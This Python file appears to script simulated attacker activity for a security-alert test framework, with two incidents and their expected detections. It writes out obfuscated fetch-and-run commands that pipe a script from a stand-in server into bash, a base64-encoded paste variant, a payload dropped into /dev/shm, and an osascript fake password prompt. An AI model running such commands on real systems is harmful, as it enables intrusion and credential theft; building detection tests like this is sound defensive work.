"""Commands that hide from whoever reads them, on Linux and macOS. Two alerts.

A web application on web-01 is made to run a command without blanks and with torn words; on mac-exec-01 a
pasted command decodes itself and is run by a shell.
"""

import base64

from local.incidents.case import Case, Expectation, process_evidence
from local.incidents.estate import OFFICER
from local.incidents.scene import Scene, scene
from local.incidents.stage import Stage, attacker
from local.incidents.world import Process, local_account

_SERVER = "192.0.2.66"


def tell(stage: Stage) -> None:
    """Records both commands, and raises their alerts."""
    _web_application(scene(stage, "web-01", "08:02:30.1190044"))
    _pasted(scene(stage, "mac-exec-01", "08:52:12.6600731"))


def _web_application(on: Scene) -> None:
    who = local_account("www-data", "web-01", 33)
    worker = on.run(
        on.resident("nginx"), "python3.12", "/usr/bin/python3 -m gunicorn app:web", 0, life=900, account=who
    )
    line = f"sh -c c''url${{IFS}}-s${{IFS}}http://{_SERVER}/x|b''ash"
    shell = on.run(worker, "dash", line, 12.7, life=200)
    curl = on.run(shell, "curl", f"curl -s http://{_SERVER}/x", 12.8)
    on.call(curl, 13.1, _SERVER, f"http://{_SERVER}/x", port=80)
    bash = on.run(shell, "bash", "bash", 12.9, life=190)
    for after, line in ((14.0, "id"), (14.6, "uname -a")):
        on.run(bash, line.split()[0], line, after)
    payload = on.stage.drop(attacker("kworkerd", "/dev/shm"))  # noqa: S108 - a path in a made-up recording
    on.write(bash, 17.2, payload.path)
    run = on.run(bash, payload, payload.path, 18.9, life=160)
    on.call(run, 21.0, _SERVER, port=3_333)
    on.call(run, 150.0, _SERVER, port=3_333)
    _alert(
        on,
        shell,
        "Web application ran a command without blanks",
        "The web application fetched a script, which left a program and ran it.",
        created=110,
        last=21,
        techniques=("T1059.004",),
    )


def _pasted(on: Scene) -> None:
    root = local_account("root", "mac-exec-01", 0)
    login = on.run(on.resident("Terminal"), "login", f"login -pf {OFFICER.name}", 0, life=900, account=root)
    zsh = on.run(login, "zsh", "-zsh", 0.1, life=900, account=OFFICER)
    inner = f"curl -fsSL http://{_SERVER}/m.sh | bash"
    code = base64.b64encode(inner.encode()).decode()
    shell = on.run(zsh, "bash", f"bash -c ec''ho {code} | base64 -D | ba''sh", 22.0, life=120)
    on.run(shell, "base64", "base64 -D", 22.1)
    child = on.run(shell, "bash", "bash", 22.1, life=110)
    curl = on.run(child, "curl", f"curl -fsSL http://{_SERVER}/m.sh", 22.4)
    on.call(curl, 22.9, _SERVER, f"http://{_SERVER}/m.sh", port=80)
    ask = 'osascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\''
    on.run(child, "osascript", ask, 25.0)
    _alert(
        on,
        shell,
        "Pasted command decoded itself",
        "A pasted command fetched a script and ran it, and the script asked for the password.",
        created=100,
        last=25.1,
        techniques=("T1059.004",),
    )


def _alert(
    on: Scene,
    subject: Process,
    title: str,
    because: str,
    *,
    created: float,
    last: float,
    techniques: tuple[str, ...],
) -> None:
    expected = Expectation("ExactProcess", "Confirmed", because, anchors=(subject,), techniques=techniques)
    on.stage.raise_alert(
        Case(
            title=title,
            description="A command line was written so that it reads as something else.",
            severity="Medium",
            category="Execution",
            device=subject.device,
            first=subject.created,
            last=on.moment(last),
            created=on.moment(created),
            evidence=(process_evidence(subject),),
            expected=expected,
            incident=1_086,
            techniques=techniques,
        )
    )
